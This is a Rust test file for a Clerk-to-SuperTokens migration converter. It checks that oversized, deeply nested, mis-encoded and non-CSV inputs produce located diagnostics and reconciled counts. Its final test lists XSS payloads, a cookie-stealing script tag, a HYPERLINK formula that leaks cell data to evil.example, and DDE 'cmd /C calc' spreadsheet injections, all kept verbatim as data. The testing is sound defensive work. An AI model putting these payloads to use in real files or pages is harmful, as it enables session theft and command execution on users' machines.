//! Hostile inputs end to end through the Converter: each run finishes, accounts for every
//! record, and says where the problem is. The small cases live in tests/corpus/hostile/
//! (written by its make.js); the large ones are built here, the same way make.js builds them.

mod common;
use clerk_to_supertokens::supertokens::{validate_request_text, CoreContext};
use common::*;
use serde_json::Value;
use std::collections::BTreeMap;
use std::path::PathBuf;

const HEADER: &str = "id,first_name,last_name,username,primary_email_address,primary_phone_number,verified_email_addresses,unverified_email_addresses,verified_phone_numbers,unverified_phone_numbers,totp_secret,password_digest,password_hasher,created_at";
const AFTER: &str = "user_after,After,,,user_after@example.test,,,,,,,,,2024-03-01T12:00:00Z\n";

fn corpus(name: &str) -> Vec<u8> {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/corpus/hostile").join(name);
    std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

/// Converts in 64 KiB pushes, as the CLI does in 1 MiB ones, and checks the run reconciled.
fn run(input: &[u8]) -> (BTreeMap<String, String>, Value) {
    let files = convert_chunked(input, options(r#"{"nowMs":1800000000000}"#), 64 * 1024);
    let r = report(&files);
    let s = &r["summary"];
    let n = |k: &str| s[k].as_u64().unwrap();
    assert_eq!(n("records"), n("converted") + n("deferred") + n("rejected"), "{s}");
    (files, r)
}

/// The diagnostics with this code.
fn with_code<'r>(r: &'r Value, code: &str) -> Vec<&'r Value> {
    r["diagnostics"].as_array().unwrap().iter().filter(|d| d["code"] == code).collect()
}

fn user(users: &[Value], id: &str) -> Value {
    users.iter().find(|u| u["externalUserId"] == id).cloned().unwrap_or_else(|| panic!("{id} not converted"))
}

#[test]
fn a_10_mb_cell_is_skipped_with_a_located_diagnostic_and_the_next_row_converts() {
    let mut input = format!("{HEADER}\nuser_big,\"").into_bytes();
    input.extend(std::iter::repeat_n(b'a', 10 << 20));
    input.extend_from_slice(format!("\",x,,big@example.test,,,,,,,,,\n{AFTER}").as_bytes());
    let (files, r) = run(&input);
    assert_eq!(r["summary"]["records"], 2);
    assert_eq!(r["summary"]["rejected"], 1);
    let d = with_code(&r, "record-too-large");
    assert_eq!((d.len(), &d[0]["record"], &d[0]["line"]), (1, &Value::from(1), &Value::from(2)));
    user(&users(&files), "user_after");
}

#[test]
fn a_line_of_a_million_columns_is_skipped_with_a_located_diagnostic() {
    let mut input = format!("{HEADER}\nuser_wide").into_bytes();
    input.extend(std::iter::repeat_n(b',', 1_000_000));
    input.extend_from_slice(format!("\n{AFTER}").as_bytes());
    let (files, r) = run(&input);
    let d = with_code(&r, "record-too-large");
    assert_eq!((d.len(), &d[0]["record"], &d[0]["line"]), (1, &Value::from(1), &Value::from(2)));
    assert_eq!(r["summary"]["rejected"], 1);
    let after = user(&users(&files), "user_after");
    assert_eq!(after["userMetadata"]["first_name"], "After");
}

#[test]
fn a_cell_listing_80000_emails_is_read_in_bounded_time() {
    // A list cell under the 1 MiB record limit can still hold 80,000 identifiers; each must
    // not be compared with every other (that took minutes before the fix).
    let emails: Vec<String> = (0..80_000).map(|i| format!("{i}@x.io")).collect();
    let input = format!("{HEADER}\nuser_many,,,,,,\"{}\",,,,,,,\n{AFTER}", emails.join(","));
    let (files, r) = run(input.as_bytes());
    assert_eq!(r["summary"]["records"], 2);
    // Without account linking the user keeps one login method; the rest are listed.
    let many = user(&users(&files), "user_many");
    assert_eq!(many["loginMethods"][0]["email"], "0@x.io");
    assert_eq!(many["userMetadata"]["clerk_login_methods_not_imported"].as_array().unwrap().len(), 79_999);
}

#[test]
fn json_nested_100000_deep_neither_overflows_the_stack_nor_loses_track() {
    let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    let (_, r) = run(deep.as_bytes());
    // One element inside the outer array: a record, rejected, not a user.
    assert_eq!(r["summary"]["records"], 1);
    assert_eq!(r["summary"]["rejected"], 1);
    let errors: Vec<&Value> = r["diagnostics"].as_array().unwrap().iter().filter(|d| d["severity"] == "error").collect();
    assert!(!errors.is_empty(), "{r}");
    assert!(errors.iter().all(|d| d["line"].is_u64()), "located: {errors:?}");
    // The same text as a request body: the core's answer to JSON it cannot parse.
    let verdict = validate_request_text(&deep, &CoreContext::default());
    assert_eq!((verdict.status, verdict.body.as_deref()), (400, Some("Invalid Json Input")));
    // And inside a metadata cell of the legacy CSV: left out, with a located warning.
    let cell = format!("{}{}", "{\"a\":".repeat(50_000), "}".repeat(50_000));
    let input = format!(
        "id,email_addresses,public_metadata\nuser_m,m@example.test,\"{}\"\n",
        cell.replace('"', "\"\"")
    );
    let (files, r) = run(input.as_bytes());
    let d = with_code(&r, "invalid-value");
    assert!(d.iter().any(|d| d["field"] == "public_metadata" && d["line"] == 2 && d["record"] == 1), "{r}");
    assert!(user(&users(&files), "user_m").get("userMetadata").is_none());
}

#[test]
fn invalid_utf8_is_a_located_diagnostic_and_nul_bytes_are_data() {
    let (files, r) = run(&corpus("invalid-utf8-and-nul.csv"));
    assert_eq!(r["summary"]["records"], 3);
    let d = with_code(&r, "invalid-utf8");
    assert_eq!(d.len(), 1);
    assert_eq!((&d[0]["record"], &d[0]["line"], &d[0]["field"]), (&Value::from(1), &Value::from(2), &Value::from("first_name")));
    let users = users(&files);
    let nul = user(&users, "user_u2");
    assert_eq!(nul["userMetadata"]["first_name"], "Nul\0Byte");
    assert_eq!(nul["userMetadata"]["last_name"], "\0");
    user(&users, "user_u3");
}

#[test]
fn utf16_files_with_a_bom_are_refused_with_a_located_reason() {
    for name in ["utf16le-bom.csv", "utf16be-bom.csv"] {
        let (files, r) = run(&corpus(name));
        assert_eq!(r["summary"]["records"], 0, "{name}");
        let d = with_code(&r, "unrecognised-format");
        assert_eq!(d.len(), 1, "{name}");
        assert!(d[0]["message"].as_str().unwrap().contains("UTF-16"), "{name}");
        assert_eq!(d[0]["line"], 1, "{name}");
        assert!(!files.keys().any(|f| f.starts_with("batch-")));
    }
}

#[test]
fn a_png_is_refused_at_line_1() {
    let (files, r) = run(&corpus("image.png"));
    assert_eq!(r["summary"]["records"], 0);
    let d = with_code(&r, "unrecognised-format");
    assert_eq!((d.len(), &d[0]["line"]), (1, &Value::from(1)));
    assert_eq!(files.keys().collect::<Vec<_>>(), ["report.json"]);
}

#[test]
fn html_and_formula_payloads_come_through_verbatim_as_data() {
    let payloads = [
        ("user_h1", "first_name", "<img src=x onerror=alert(1)>"),
        ("user_h1", "last_name", "</script><script>alert(document.cookie)</script>"),
        ("user_h1", "username", "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")"),
        ("user_h2", "first_name", "+cmd|' /C calc'!A0"),
        ("user_h2", "last_name", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("user_h2", "username", "-2+3+cmd|' /C calc'!A0"),
        ("user_h3", "first_name", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")"),
    ];
    let (files, r) = run(&corpus("html-and-formulas.csv"));
    assert_eq!(r["summary"]["converted"], 3);
    let users = users(&files);
    for (id, field, payload) in payloads {
        assert_eq!(user(&users, id)["userMetadata"][field], payload, "{id}.{field}");
        assert!(!files["report.json"].contains(payload), "the report echoes a payload");
    }
}
